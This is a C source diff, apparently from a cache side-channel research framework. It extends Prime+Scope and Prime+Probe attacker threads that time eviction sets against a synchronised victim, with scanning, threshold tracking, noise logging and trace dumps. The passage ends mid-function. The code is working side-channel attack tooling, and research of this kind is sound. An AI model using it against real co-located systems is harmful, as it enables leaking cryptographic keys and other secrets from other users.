@@ -3,74 +3,240 @@
 #include "arch.h"
 #include "shared_memory.h"
 #include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+#include "live_trace.h"
+#include "noise_ring.h"
 #include "prime_probe.h"
+#include "sample_alloc.h"
+#include "thresh_track.h"
+#include "trace.h"
+#include "trace_segment.h"
+
+void capture_profiling_thread(int slot,
+                              trace_attack_t attack,
+                              int l3_set,
+                              int threshold,
+                              int profile_iterations,
+                              uint64_t max_exec_cycles) {
+	trace_capture_t *capture = trace_get_capture();
+	trace_capture_channel_t *channel = trace_get_capture_channel(slot);
+	u32 aux;
 
-uint32_t PS_profile_once(EVSet *evset,
-                         int slot,
-                         uint64_t profile_iterations,
-                         uint64_t max_exec_cycles,
-                         uint64_t **sample_tsc,
-                         uint64_t **probe_time) {
-	uint64_t tsc0, tsc1;
-	uint8_t *scope = evset->addrs[0];
-	evchain *sf_chain = evchain_build(evset->addrs, SF_ASSOC);
+	if (slot == 0) {
+		capture->tsc_freq = tsc_frequency();
+		capture->max_exec_cycles = max_exec_cycles;
+		capture->profile_iterations = profile_iterations;
+		capture->attack = attack;
+		capture->l2_thresh = detected_cache_lats.l2_thresh;
+		capture->interrupt_thresh = detected_cache_lats.interrupt_thresh;
+	}
+	if (channel != NULL) {
+		rdtscp_aux(&aux);
+		channel->l3_set = l3_set;
+		channel->core = aux & 0xFFF;
+		channel->node = aux >> 12;
+		channel->threshold = threshold;
+	}
+}
 
-	u64 scope_lat, end;
-	u32 aux, last_aux, index = 0;
-	u32 l2_repeat = 1, array_repeat = 12;
-	i64 threshold = detected_cache_lats.l2_thresh;
+void capture_victim_action(sync_ctx_action_t action) {
+	trace_capture_t *capture = trace_get_capture();
+	const char *data = (const char *)sync_ctx.data;
+	size_t len = strnlen(data, sync_ctx_data_size);
 
-	prime_skx_sf_evset_ps_flush(evset, sf_chain, array_repeat, l2_repeat);
+	// Keep the tail of long paths, it names the key or script
+	if (len >= sizeof(capture->victim_data)) {
+		data += len - sizeof(capture->victim_data) + 1;
+	}
+	capture->victim_action = action;
+	snprintf(capture->victim_data, sizeof(capture->victim_data), "%s", data);
+}
 
-	tsc0 = tsc1 = _rdtscp_aux(&last_aux);
+// Coverage of the current run of every slot, with TRACE_COVERAGE
+static trace_coverage_t profiling_coverage[TRACE_CAPTURE_MAX_CHANNELS];
 
-	if (slot == 0) {
-		log_debug("Attacker start barrier %lu", rdtscp());
-		sync_ctx_set_action(SYNC_CTX_START);
-		pthread_barrier_wait(sync_ctx.barrier);
-		log_debug("Attacker start done %lu", rdtscp());
+/* Cleared coverage of slot for the coming run, NULL without TRACE_COVERAGE */
+static trace_coverage_t *profiling_coverage_begin(int slot) {
+	if (!trace_coverage_enabled() || slot >= TRACE_CAPTURE_MAX_CHANNELS) {
+		return NULL;
 	}
+	memset(&profiling_coverage[slot], 0, sizeof(trace_coverage_t));
+	return &profiling_coverage[slot];
+}
 
-	do {
-		tsc1 = rdtscp();
+static void profiling_coverage_report(int slot,
+                                      const trace_coverage_t *coverage) {
+	if (coverage == NULL || coverage->window_cycles == 0) {
+		return;
+	}
+	log_info("Attacker %d covered %.2f%% of %lu cycles, %lu probes, "
+	         "%lu re-primes blind for %lu cycles (max %lu)",
+	         slot,
+	         100.0 * (1.0 - (double)coverage->blind_cycles /
+	                            coverage->window_cycles),
+	         coverage->window_cycles,
+	         coverage->probes,
+	         coverage->reprimes,
+	         coverage->blind_cycles,
+	         coverage->max_blind_cycles);
+}
 
-		scope_lat = _time_maccess_aux(scope, end, aux);
+/*
+ * Hand the noise and coverage of the run of every slot to the traces slot 0
+ * writes next
+ */
+static void profiling_collect(int cl_cnt) {
+	noise_ring_collect(cl_cnt);
+	trace_set_coverage(trace_coverage_enabled() ? profiling_coverage : NULL);
+}
 
-		if (aux != last_aux) {
-			log_warn("Attacker %d CPU switch tsc=%lu "
-			         "cpu %u->%u node %u->%u",
-			         slot,
-			         tsc1,
-			         last_aux & 0xFFF,
-			         aux & 0xFFF,
-			         last_aux >> 12,
-			         aux >> 12);
-			last_aux = aux;
+// Threshold tracker of every slot, with THRESH_TRACK
+static thresh_track_t *profiling_thresh[TRACE_CAPTURE_MAX_CHANNELS];
+
+/* Tracker of slot, NULL unless profiling_thresh_init() started one */
+static thresh_track_t *profiling_thresh_get(int slot) {
+	if (slot < 0 || slot >= TRACE_CAPTURE_MAX_CHANNELS) {
+		return NULL;
+	}
+	return profiling_thresh[slot];
+}
+
+/* Track the threshold of slot from threshold, NULL without THRESH_TRACK */
+static thresh_track_t *profiling_thresh_init(int slot, int threshold) {
+	if (!thresh_track_enabled() || slot < 0 ||
+	    slot >= TRACE_CAPTURE_MAX_CHANNELS) {
+		return NULL;
+	}
+	if (profiling_thresh[slot] == NULL) {
+		profiling_thresh[slot] = aligned_alloc(64, sizeof(thresh_track_t));
+		if (profiling_thresh[slot] == NULL) {
+			log_error("Cannot allocate the threshold tracker of slot %d",
+			          slot);
+			return NULL;
 		}
+	}
+	// Also faults the histogram in, not in the profiling window
+	thresh_track_init(profiling_thresh[slot], slot, threshold);
+	return profiling_thresh[slot];
+}
+
+/* Record threshold as the one slot profiles its next run with */
+static void capture_profiling_threshold(int slot, int threshold) {
+	trace_capture_channel_t *channel = trace_get_capture_channel(slot);
+
+	if (channel != NULL) {
+		channel->threshold = threshold;
+	}
+}
 
-		int scope_evict = scope_lat > threshold &&
-		                  scope_lat < detected_cache_lats.interrupt_thresh;
-		if (scope_lat > threshold) {
-			if (scope_lat < detected_cache_lats.interrupt_thresh) {
-				probe_time[slot][index] = scope_lat;
-				sample_tsc[slot][index] = tsc1;
-				index++;
+int profiling_thresh_update(thresh_track_t *thresh,
+                            EVSet **evset,
+                            evchain **sf_chain,
+                            uintptr_t target,
+                            helper_thread_ctrl *hctrl,
+                            int *calibrated,
+                            int para) {
+	if (thresh == NULL) {
+		return *calibrated;
+	}
+	if (thresh_track_update(thresh) == THRESH_TRACK_INSEPARABLE) {
+		if (thresh->strikes >= THRESH_TRACK_STRIKES && target != 0) {
+			EVSet *stale = *evset;
+
+			log_warn("Slot %d rebuilds its eviction set", thresh->slot);
+			if (para) {
+				prepare_evset_thres(target, evset, calibrated);
+			} else {
+				EVSet *rebuilt = rebuild_evset(target, hctrl);
+				if (rebuilt != NULL) {
+					*evset = rebuilt;
+				}
 			}
-			prime_skx_sf_evset_ps_flush(
-			    evset, sf_chain, array_repeat, l2_repeat);
+			if (*evset != stale) {
+				// The first set belongs to the attacker, e.g. to the LLCF
+				// table of get_sf_kth_evset()
+				if (thresh->owns_evset) {
+					release_evset(stale);
+				}
+				thresh->owns_evset = 1;
+				if (sf_chain != NULL) {
+					*sf_chain = evchain_build((*evset)->addrs, SF_ASSOC);
+				}
+			}
+			thresh->strikes = 0;
 		}
-	} while (tsc1 - tsc0 < max_exec_cycles && index < profile_iterations);
+		log_warn(
+		    "Slot %d falls back to threshold %d", thresh->slot, *calibrated);
+		thresh_track_seed(thresh, *calibrated);
+	}
+	capture_profiling_threshold(thresh->slot, thresh->threshold);
+	return thresh->threshold;
+}
+
+/*
+ * Prime ps and profile one victim run, streamed if ps->ring is set and
+ * packed if ps->records is
+ */
+static uint32_t PS_profile_run(prime_scope_t *ps) {
+	uint64_t tsc0, tsc1;
+	int slot = ps->slot;
+	sample_faults_t faults;
+	u32 index;
+
+	if (slot == 0) {
+		capture_victim_action(SYNC_CTX_START);
+	}
+	ps->noise = noise_ring_get(slot);
+	ps->coverage = profiling_coverage_begin(slot);
+	ps->thresh = profiling_thresh_get(slot);
+	if (ps->thresh != NULL) {
+		ps->threshold = ps->thresh->threshold;
+	}
+	sample_faults_read(&faults);
+	prime_skx_sf_evset_ps_flush(
+	    ps->evset, ps->sf_chain, ps->array_repeat, ps->l2_repeat);
+
+	tsc0 = rdtscp();
+
+	if (slot == 0) {
+		log_debug("Attacker start barrier %lu", rdtscp());
+		sync_ctx_set_action(SYNC_CTX_START);
+		pthread_barrier_wait(sync_ctx.barrier);
+		log_debug("Attacker start done %lu", rdtscp());
+	}
+
+	if (ps->ring != NULL) {
+		index = prime_scope_profile(ps,
+		                            PRIME_SCOPE_RECORD_STREAM,
+		                            PRIME_SCOPE_STOP_BUDGET,
+		                            PRIME_SCOPE_NOISE_LOG);
+	} else if (ps->records != NULL) {
+		ps->tsc_base = rdtscp();
+		index = prime_scope_profile(ps,
+		                            PRIME_SCOPE_RECORD_PACKED,
+		                            PRIME_SCOPE_STOP_BUDGET,
+		                            PRIME_SCOPE_NOISE_LOG);
+	} else {
+		index = prime_scope_profile(ps,
+		                            PRIME_SCOPE_RECORD_SAMPLES,
+		                            PRIME_SCOPE_STOP_BUDGET,
+		                            PRIME_SCOPE_NOISE_LOG);
+	}
 
 	tsc1 = rdtscp();
 
 	if (slot == 0) {
 		log_debug("Attacker end barrier %lu", rdtscp());
-		if (sync_ctx_get_action() != SYNC_CTX_PAUSE) {
+		if (sync_ctx_get_action() != SYNC_CTX_PAUSE &&
+		    !live_trace_aborted(ps->live)) {
 			log_warn("Profiling time/iteration not enough");
 		}
 		pthread_barrier_wait(sync_ctx.barrier);
 		log_debug("Attacker end done %lu", rdtscp());
 	}
+	sample_faults_report(slot, &faults);
+	profiling_coverage_report(slot, ps->coverage);
 
 	log_debug("Profiling rdtsc:\n"
 	         "pid:\t%d\n"
@@ -89,6 +255,239 @@ uint32_t PS_profile_once(EVSet *evset,
 	return index;
 }
 
+uint32_t PS_profile_once(EVSet *evset,
+                         int slot,
+                         uint64_t profile_iterations,
+                         uint64_t max_exec_cycles,
+                         uint64_t **sample_tsc,
+                         uint64_t **probe_time) {
+	prime_scope_t ps = {
+		.evset = evset,
+		.sf_chain = evchain_build(evset->addrs, SF_ASSOC),
+		.array_repeat = 12,
+		.l2_repeat = 1,
+		.slot = slot,
+		.threshold = detected_cache_lats.l2_thresh,
+		.max_exec_cycles = max_exec_cycles,
+		.max_samples = profile_iterations,
+		.sample_tsc = sample_tsc[slot],
+		.probe_time = probe_time[slot],
+		.live = live_trace_get(),
+	};
+	return PS_profile_run(&ps);
+}
+
+uint32_t PS_profile_stream(EVSet *evset,
+                           int slot,
+                           uint64_t max_exec_cycles,
+                           sample_ring_t *ring) {
+	prime_scope_t ps = {
+		.evset = evset,
+		.sf_chain = evchain_build(evset->addrs, SF_ASSOC),
+		.array_repeat = 12,
+		.l2_repeat = 1,
+		.slot = slot,
+		.threshold = detected_cache_lats.l2_thresh,
+		.max_exec_cycles = max_exec_cycles,
+		.ring = ring,
+		.live = NULL,
+	};
+	return PS_profile_run(&ps);
+}
+
+uint32_t PS_profile_records(EVSet *evset,
+                            int slot,
+                            uint64_t profile_iterations,
+                            uint64_t max_exec_cycles,
+                            trace_record_t *records,
+                            uint64_t *tsc_base) {
+	prime_scope_t ps = {
+		.evset = evset,
+		.sf_chain = evchain_build(evset->addrs, SF_ASSOC),
+		.array_repeat = 12,
+		.l2_repeat = 1,
+		.slot = slot,
+		.threshold = detected_cache_lats.l2_thresh,
+		.max_exec_cycles = max_exec_cycles,
+		.max_samples = profile_iterations,
+		.records = records,
+		.live = live_trace_get(),
+	};
+	uint32_t index = PS_profile_run(&ps);
+	*tsc_base = ps.tsc_base;
+	return index;
+}
+
+int PS_scan_sets(void) {
+	const char *env_scan_sets = getenv("PS_SCAN_SETS");
+	if (env_scan_sets != NULL) {
+		char *endptr;
+		long value = strtol(env_scan_sets, &endptr, 10);
+		if (endptr != env_scan_sets && *endptr == '\0' && value >= 1 &&
+		    value <= PRIME_SCOPE_MAX_SETS) {
+			return value;
+		}
+		log_warn("Ignoring PS_SCAN_SETS=%s", env_scan_sets);
+	}
+	return PS_SCAN_SETS;
+}
+
+/*
+ * Screen evsets[0, total) through count places during one victim run, see
+ * prime_scope_profile_multi(). Returns the number of sets profiled.
+ */
+static int PS_profile_queue(EVSet **evsets,
+                            int count,
+                            int total,
+                            early_stop_t *early_stop,
+                            uint64_t profile_iterations,
+                            uint64_t max_exec_cycles,
+                            uint64_t **sample_tsc,
+                            uint64_t **probe_time,
+                            uint64_t *sample_count,
+                            int *place,
+                            prime_scope_rounds_t *rounds) {
+	prime_scope_t *ps = calloc(total, sizeof(prime_scope_t));
+	uint64_t *hits = calloc(total, sizeof(uint64_t));
+	int taken;
+
+	if (ps == NULL || hits == NULL) {
+		log_error("Cannot allocate the scan of %d sets", total);
+		free(ps);
+		free(hits);
+		memset(rounds, 0, sizeof(*rounds));
+		return 0;
+	}
+	for (int k = 0; k < total; ++k) {
+		ps[k] = (prime_scope_t){
+			.evset = evsets[k],
+			// Queued sets get their chain when a place takes them
+			.sf_chain =
+			    k < count ? evchain_build(evsets[k]->addrs, SF_ASSOC) : NULL,
+			.array_repeat = 12,
+			.l2_repeat = 1,
+			.slot = k,
+			.threshold = detected_cache_lats.l2_thresh,
+			.max_exec_cycles = max_exec_cycles,
+			.max_samples = profile_iterations,
+			.sample_tsc = k < count ? sample_tsc[k] : NULL,
+			.probe_time = k < count ? probe_time[k] : NULL,
+			.live = NULL,
+			.early_stop = early_stop != NULL ? &early_stop[k] : NULL,
+		};
+	}
+
+	capture_victim_action(SYNC_CTX_START);
+	for (int k = 0; k < count; ++k) {
+		prime_skx_sf_evset_ps_flush(
+		    ps[k].evset, ps[k].sf_chain, ps[k].array_repeat, ps[k].l2_repeat);
+	}
+
+	log_debug("Attacker start barrier %lu", rdtscp());
+	sync_ctx_set_action(SYNC_CTX_START);
+	pthread_barrier_wait(sync_ctx.barrier);
+	log_debug("Attacker start done %lu", rdtscp());
+
+	taken = prime_scope_profile_multi(ps,
+	                                  count,
+	                                  total,
+	                                  hits,
+	                                  place,
+	                                  PRIME_SCOPE_RECORD_SAMPLES,
+	                                  PRIME_SCOPE_STOP_PAUSE,
+	                                  rounds);
+
+	log_debug("Attacker end barrier %lu", rdtscp());
+	if (sync_ctx_get_action() != SYNC_CTX_PAUSE) {
+		log_warn("Profiling time/iteration not enough");
+	}
+	pthread_barrier_wait(sync_ctx.barrier);
+	log_debug("Attacker end done %lu", rdtscp());
+
+	for (int k = 0; k < count; ++k) {
+		sample_count[k] = place[k] >= 0 ? hits[place[k]] : 0;
+	}
+	free(ps);
+	free(hits);
+	return taken;
+}
+
+uint64_t PS_profile_multi(EVSet **evsets,
+                          int count,
+                          uint64_t profile_iterations,
+                          uint64_t max_exec_cycles,
+                          uint64_t **sample_tsc,
+                          uint64_t **probe_time,
+                          uint64_t *sample_count) {
+	prime_scope_rounds_t rounds;
+	int place[PRIME_SCOPE_MAX_SETS];
+
+	PS_profile_queue(evsets,
+	                 count,
+	                 count,
+	                 NULL,
+	                 profile_iterations,
+	                 max_exec_cycles,
+	                 sample_tsc,
+	                 probe_time,
+	                 sample_count,
+	                 place,
+	                 &rounds);
+
+	uint64_t blind_spot = prime_scope_blind_spot(&rounds, count);
+	log_info("Scanned %d sets in %lu rounds of %lu cycles (max %lu), "
+	         "blind spot +%lu cycles per set",
+	         count,
+	         rounds.count,
+	         rounds.count ? rounds.cycles / rounds.count : 0,
+	         rounds.max_cycles,
+	         blind_spot);
+
+	return blind_spot;
+}
+
+int PS_profile_screen(EVSet **evsets,
+                      int count,
+                      int total,
+                      early_stop_t *early_stop,
+                      uint64_t profile_iterations,
+                      uint64_t max_exec_cycles,
+                      uint64_t **sample_tsc,
+                      uint64_t **probe_time,
+                      uint64_t *sample_count,
+                      int *place) {
+	prime_scope_rounds_t rounds;
+	uint64_t rejected = 0;
+
+	if (count > total) {
+		count = total;
+	}
+	int taken = PS_profile_queue(evsets,
+	                             count,
+	                             total,
+	                             early_stop,
+	                             profile_iterations,
+	                             max_exec_cycles,
+	                             sample_tsc,
+	                             probe_time,
+	                             sample_count,
+	                             place,
+	                             &rounds);
+
+	for (int k = 0; k < taken && early_stop != NULL; ++k) {
+		rejected += early_stop[k].decision == EARLY_STOP_REJECT;
+	}
+	log_info("Screened %d of %d sets in %lu rounds of %lu cycles (max %lu), "
+	         "%lu rejected early",
+	         taken,
+	         total,
+	         rounds.count,
+	         rounds.count ? rounds.cycles / rounds.count : 0,
+	         rounds.max_cycles,
+	         rejected);
+	return taken;
+}
+
 void *PS_attacker_thread(void *args) {
 	PS_attacker_thread_config_t *pt_config =
 	    (PS_attacker_thread_config_t *)args;
@@ -106,41 +505,121 @@ void *PS_attacker_thread(void *args) {
 	pthread_barrier_t *threads_barrier = pt_config->threads_barrier;
 	uint64_t **sample_tsc = pt_config->sample_tsc;
 	uint64_t **probe_time = pt_config->probe_time;
+	uint64_t *sample_count = pt_config->sample_count;
+	uint64_t *tsc_base = pt_config->tsc_base;
+	// The sample_tsc columns hold the records, probe_time stays untouched
+	const int packed = tsc_base != NULL && pt_config->stream == NULL &&
+	                   pt_config->buffer == NULL;
 
 	u64 lat_goto8, lat_sar, end;
 	u32 aux;
 	i64 threshold = detected_cache_lats.l2_thresh;
+	int calibrated = detected_cache_lats.l2_thresh;
 
 	if (pt_config->pin_cpu != -1) {
 		pin_cpu(pt_config->pin_cpu);
 		/* iso_pin_cpu(pt_config->pin_cpu); */
 	}
+	capture_profiling_thread(slot,
+	                         TRACE_ATTACK_PS,
+	                         pt_config->l3_set,
+	                         threshold,
+	                         profile_iterations,
+	                         max_exec_cycles);
+	thresh_track_t *thresh = profiling_thresh_init(slot, threshold);
 
 	tsc0 = rdtscp();
 
 	for (int i = 0; i < victim_runs; ++i) {
 		pthread_barrier_wait(threads_barrier);
-		if (slot == 0) {
-			memset(probe_time[slot], 0, sizeof(probe_time[0]));
-			memset(sample_tsc[slot], 0, sizeof(sample_tsc[0]));
+		// Set by slot 0 between the barriers, so every slot stops together
+		if (pt_config->buffer != NULL && pt_config->buffer->aborted) {
+			break;
 		}
+		if (pt_config->stream != NULL) {
+			sample_count[slot] = PS_profile_stream(
+			    evset,
+			    slot,
+			    max_exec_cycles,
+			    sample_stream_ring(pt_config->stream, slot));
+		} else if (packed) {
+			sample_count[slot] = PS_profile_records(evset,
+			                                        slot,
+			                                        profile_iterations,
+			                                        max_exec_cycles,
+			                                        sample_tsc[slot],
+			                                        &tsc_base[slot]);
+		} else {
+			if (slot == 0) {
+				memset(probe_time[slot], 0, sizeof(probe_time[0]));
+				memset(sample_tsc[slot], 0, sizeof(sample_tsc[0]));
+			}
 
-		PS_profile_once(evset,
-		                slot,
-		                profile_iterations,
-		                max_exec_cycles,
-		                sample_tsc,
-		                probe_time);
+			sample_count[slot] = PS_profile_once(evset,
+			                                     slot,
+			                                     profile_iterations,
+			                                     max_exec_cycles,
+			                                     sample_tsc,
+			                                     probe_time);
+		}
 
+		// Every slot has to publish its run before slot 0 collects it
+		pthread_barrier_wait(threads_barrier);
 		if (slot == 0) {
+			profiling_collect(cache_line_count);
+		}
+
+		if (pt_config->stream != NULL) {
+			if (slot == 0 && sample_stream_commit(pt_config->stream)) {
+				exit(1);
+			}
+		} else if (pt_config->buffer != NULL) {
+			if (slot == 0 &&
+			    sample_buffer_commit(
+			        pt_config->buffer, sample_count, profile_iterations)) {
+				exit(1);
+			}
+		} else if (pt_config->writer != NULL) {
+			if (slot == 0) {
+				trace_writer_submit(pt_config->writer,
+				                    test_name,
+				                    victim_runs,
+				                    sample_tsc,
+				                    probe_time,
+				                    sample_count,
+				                    packed ? tsc_base : NULL,
+				                    i == 0);
+			}
+		} else if (slot == 0 && packed) {
+			dump_profiling_records(test_name,
+			                       victim_runs,
+			                       sample_tsc,
+			                       tsc_base,
+			                       sample_count,
+			                       cache_line_count,
+			                       profile_iterations,
+			                       i == 0);
+		} else if (slot == 0) {
 			dump_profiling_traces(test_name,
 			                      victim_runs,
 			                      sample_tsc,
 			                      probe_time,
+			                      sample_count,
 			                      cache_line_count,
 			                      profile_iterations,
 			                      i == 0);
 		}
+
+		// The dump above still carries the threshold of this run
+		pthread_barrier_wait(threads_barrier);
+		profiling_thresh_update(thresh,
+		                        &pt_config->evset,
+		                        NULL,
+		                        (uintptr_t)pt_config->target,
+		                        NULL,
+		                        &calibrated,
+		                        0);
+		evset = pt_config->evset;
 	}
 
 	tsc1 = rdtscp();
@@ -148,17 +627,27 @@ void *PS_attacker_thread(void *args) {
 	return NULL;
 }
 
-void PP_profile_once(EVSet *evset,
-                     int slot,
-                     const char *label,
-                     int threshold,
-                     int profile_iterations,
-                     uint64_t max_exec_cycles,
-                     uint64_t **sample_tsc,
-                     uint64_t **probe_time) {
+uint32_t PP_profile_once(EVSet *evset,
+                         int slot,
+                         const char *label,
+                         int threshold,
+                         int profile_iterations,
+                         uint64_t max_exec_cycles,
+                         uint64_t **sample_tsc,
+                         uint64_t **probe_time) {
 	u64 n_recvs = 0, iters = 0, end, n_switches = 0;
 	u32 aux, last_aux, index = 0;
+	live_trace_t *live = live_trace_get();
+	noise_ring_t *noise = noise_ring_get(slot);
+	trace_coverage_t *coverage = profiling_coverage_begin(slot);
+	thresh_track_t *thresh = profiling_thresh_get(slot);
+	u64 probes = 0;
+	sample_faults_t faults;
 
+	if (slot == 0) {
+		capture_victim_action(SYNC_CTX_START);
+	}
+	sample_faults_read(&faults);
 	_rdtscp_aux(&last_aux);
 	flush_evset(evset);
 	_lfence();
@@ -171,13 +660,33 @@ void PP_profile_once(EVSet *evset,
 
 	u64 tsc1, tsc0;
 	tsc1 = tsc0 = _rdtsc();
-	while (_rdtsc() - tsc0 < max_exec_cycles && index < profile_iterations) {
+	while (_rdtsc() - tsc0 < max_exec_cycles && index < profile_iterations &&
+	       !live_trace_aborted(live)) {
 		u64 now_tsc = _rdtsc();
 
 		u64 lat = 0;
 		lat = probe_skx_sf_evset_para(evset, &end, &aux);
+		probes++;
 		bool spurious = (aux != last_aux) ||
 		                lat > detected_cache_lats.interrupt_thresh;
+		if (thresh != NULL && !spurious) {
+			thresh_track_probe(thresh, lat);
+		}
+
+		if (spurious) {
+			trace_noise_kind_t kind = TRACE_NOISE_DROPPED;
+			if (aux != last_aux) {
+				noise_ring_push(
+				    noise, now_tsc, TRACE_NOISE_CPU_SWITCH, last_aux, aux, lat);
+			}
+			if (lat > detected_cache_lats.interrupt_thresh) {
+				kind = TRACE_NOISE_INTERRUPT;
+			}
+			// Below the threshold nothing was lost but the probe
+			if (lat > threshold) {
+				noise_ring_push(noise, now_tsc, kind, aux, aux, lat);
+			}
+		}
 
 		if (spurious || lat > threshold) {
 			prime_skx_sf_evset_para(evset, array_repeat, l2_repeat);
@@ -187,7 +696,11 @@ void PP_profile_once(EVSet *evset,
 				_mfence();
 				_lfence();
 				u32 blindspot = _rdtscp_aux(&aux) - end;
+				if (coverage != NULL) {
+					trace_coverage_reprime(coverage, blindspot);
+				}
 				++index;
+				live_trace_publish(live, slot, index);
 			}
 			last_aux = aux;
 		}
@@ -195,11 +708,18 @@ void PP_profile_once(EVSet *evset,
 	}
 
 	if (slot == 0) {
-		if (sync_ctx_get_action() != SYNC_CTX_PAUSE) {
+		if (sync_ctx_get_action() != SYNC_CTX_PAUSE &&
+		    !live_trace_aborted(live)) {
 			log_warn("Profiling time/iteration not enough");
 		}
 		pthread_barrier_wait(sync_ctx.barrier);
 	}
+	sample_faults_report(slot, &faults);
+	if (coverage != NULL) {
+		coverage->window_cycles = tsc1 - tsc0;
+		coverage->probes = probes;
+	}
+	profiling_coverage_report(slot, coverage);
 
 	log_debug("Prime+Probe %d (%s) rdtsc:\n"
 	         "pid:\t%d\n"
@@ -215,7 +735,7 @@ void PP_profile_once(EVSet *evset,
 	         tsc1 - tsc0,
 	         index);
 
-	return;
+	return index;
 }
 
 void *PP_attacker_thread(void *args) {
@@ -230,44 +750,83 @@ void *PP_attacker_thread(void *args) {
 	const int cache_line_count = pt_config->cache_line_count;
 	const int profile_iterations = pt_config->profile_iterations;
 	const int victim_runs = pt_config->victim_runs;
-	const int threshold = pt_config->threshold;
+	int threshold = pt_config->threshold;
 	const uint64_t max_exec_cycles = pt_config->max_exec_cycles;
 	pthread_barrier_t *thread_barrier = pt_config->threads_barrier;
 	uint64_t **sample_tsc = pt_config->sample_tsc;
 	uint64_t **probe_time = pt_config->probe_time;
+	uint64_t *sample_count = pt_config->sample_count;
 
 	log_info("Parallel Prime+Probe %s threhold: %ld", label, threshold);
+	capture_profiling_thread(slot,
+	                         TRACE_ATTACK_PP,
+	                         pt_config->l3_set,
+	                         threshold,
+	                         profile_iterations,
+	                         max_exec_cycles);
+	thresh_track_t *thresh = profiling_thresh_init(slot, threshold);
+	int calibrated = threshold;
 
 	tsc0 = rdtscp();
 	for (int i = 0; i < victim_runs; ++i) {
 		pthread_barrier_wait(thread_barrier);
+		if (pt_config->buffer != NULL && pt_config->buffer->aborted) {
+			break;
+		}
 
-		int index = 0;
-
-		PP_profile_once(evset,
-		                slot,
-		                label,
-		                threshold,
-		                profile_iterations,
-		                max_exec_cycles,
-		                sample_tsc,
-		                probe_time);
+		sample_count[slot] = PP_profile_once(evset,
+		                                     slot,
+		                                     label,
+		                                     threshold,
+		                                     profile_iterations,
+		                                     max_exec_cycles,
+		                                     sample_tsc,
+		                                     probe_time);
 
+		// Every slot has to publish its run before slot 0 collects it
+		pthread_barrier_wait(thread_barrier);
 		if (slot == 0) {
-			uint64_t *sample_tsc_ap[cache_line_count];
-			uint64_t *probe_time_ap[cache_line_count];
-			for (int i = 0; i < cache_line_count; ++i) {
-				sample_tsc_ap[i] = sample_tsc[i];
-				probe_time_ap[i] = probe_time[i];
+			profiling_collect(cache_line_count);
+		}
+
+		if (pt_config->buffer != NULL) {
+			if (slot == 0 &&
+			    sample_buffer_commit(
+			        pt_config->buffer, sample_count, profile_iterations)) {
+				exit(1);
 			}
+		} else if (pt_config->writer != NULL) {
+			if (slot == 0) {
+				trace_writer_submit(pt_config->writer,
+				                    test_name,
+				                    victim_runs,
+				                    sample_tsc,
+				                    probe_time,
+				                    sample_count,
+				                    NULL,
+				                    i == 0);
+			}
+		} else if (slot == 0) {
 			dump_profiling_traces(test_name,
 			                      victim_runs,
-			                      sample_tsc_ap,
-			                      probe_time_ap,
+			                      sample_tsc,
+			                      probe_time,
+			                      sample_count,
 			                      cache_line_count,
 			                      profile_iterations,
 			                      i == 0);
 		}
+
+		// The dump above still carries the threshold of this run
+		pthread_barrier_wait(thread_barrier);
+		threshold = profiling_thresh_update(thresh,
+		                                    &pt_config->evset,
+		                                    NULL,
+		                                    pt_config->target,
+		                                    NULL,
+		                                    &calibrated,
+		                                    1);
+		evset = pt_config->evset;
 	}
 	tsc1 = rdtscp();
 	return NULL;
@@ -277,6 +836,7 @@ void dump_profiling_trace(const char *dump_prefix,
                           int dump_id,
                           uint64_t **sample_tsc,
                           uint64_t **reload_time,
+                          const uint64_t *sample_count,
                           int cl_cnt,
                           int sp_cnt) {
 	static int trace_idx = 0;
@@ -285,46 +845,50 @@ void dump_profiling_trace(const char *dump_prefix,
 	sprintf(output_dir, "output/%s", dump_prefix);
 	create_directory(output_dir);
 
-	FILE *fp;
 	snprintf(
 	    output_file, sizeof(output_file), "%s/r%d.out", output_dir, dump_id);
-	fp = fopen(output_file, "w");
-	if (fp == NULL) {
-		log_error("Error opening output file %s", output_file);
-		return;
-	}
 	log_info("Dump trace to %s", output_file);
+	trace_write(
+	    output_file, sample_tsc, reload_time, sample_count, cl_cnt, sp_cnt);
+}
 
-	for (int i = 0; i < sp_cnt; ++i) {
-		bool has_hits = false;
-		for (int j = 0; j < cl_cnt; ++j) {
-			if (sample_tsc[j][i] > 0) {
-				has_hits = true;
-			}
-			fprintf(fp, "%lu:%lu\t", sample_tsc[j][i], reload_time[j][i]);
-			// NOTE: dump do not memset buffer now
-			/* sample_tsc[j][i] = reload_time[j][i] = 0; */
-		}
-		fprintf(fp, "\n");
-		if (!has_hits) {
-			break;
-		}
-	}
-	fclose(fp);
+static trace_segment_t *dump_segment;
+static uint32_t dump_key_id;
+static int dump_trace_idx;
+
+void dump_profiling_segment(trace_segment_t *segment, uint32_t key_id) {
+	dump_segment = segment;
+	dump_key_id = key_id;
 }
 
 void dump_profiling_traces(const char *dump_prefix,
                            int victim_runs,
                            uint64_t **sample_tsc,
                            uint64_t **reload_time,
+                           const uint64_t *sample_count,
                            int cl_cnt,
                            int sp_cnt,
                            int reset) {
-	static int trace_idx = 0;
 	char output_dir[128], output_file[256];
 
 	if (reset) {
-		trace_idx = 0;
+		dump_trace_idx = 0;
+	}
+
+	if (dump_segment != NULL) {
+		log_info("Dump trace of key %u run %d to %s",
+		         dump_key_id,
+		         dump_trace_idx,
+		         dump_segment->filepath);
+		trace_segment_append(dump_segment,
+		                     dump_key_id,
+		                     dump_trace_idx++,
+		                     sample_tsc,
+		                     reload_time,
+		                     sample_count,
+		                     cl_cnt,
+		                     sp_cnt);
+		return;
 	}
 
 	snprintf(output_dir,
@@ -332,32 +896,74 @@ void dump_profiling_traces(const char *dump_prefix,
 	         "output/%s_r%05d",
 	         dump_prefix,
 	         victim_runs);
-	if (trace_idx == 0) {
+	if (dump_trace_idx == 0) {
 		create_directory(output_dir);
 	}
 
-	FILE *fp;
-	sprintf(output_file, "%s/r%d.out", output_dir, trace_idx++);
-	fp = fopen(output_file, "w");
-	if (fp == NULL) {
-		log_error("Error opening output file %s", output_file);
-		return;
-	}
+	sprintf(output_file, "%s/r%d.out", output_dir, dump_trace_idx++);
 	log_info("Dump trace to %s", output_file);
+	trace_write(
+	    output_file, sample_tsc, reload_time, sample_count, cl_cnt, sp_cnt);
+}
+
+void dump_profiling_records(const char *dump_prefix,
+                            int victim_runs,
+                            trace_record_t **records,
+                            const uint64_t *tsc_base,
+                            const uint64_t *sample_count,
+                            int cl_cnt,
+                            int sp_cnt,
+                            int reset) {
+	uint64_t counts[cl_cnt];
+	char output_dir[128], output_file[256];
 
-	for (int i = 0; i < sp_cnt; ++i) {
-		bool has_hits = false;
